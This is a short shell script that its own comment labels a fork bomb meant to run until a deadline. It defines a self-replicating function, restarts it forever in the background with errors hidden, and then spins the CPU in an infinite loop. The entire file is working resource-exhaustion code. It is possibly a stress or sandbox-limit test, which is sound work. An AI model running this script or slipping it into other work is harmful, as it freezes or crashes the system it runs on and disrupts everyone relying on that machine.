#!/bin/sh
# Fork bomb that goes on until its deadline.
bomb() { bomb | bomb & }
(while :; do (bomb) || :; done) 2>/dev/null &
while :; do :; done
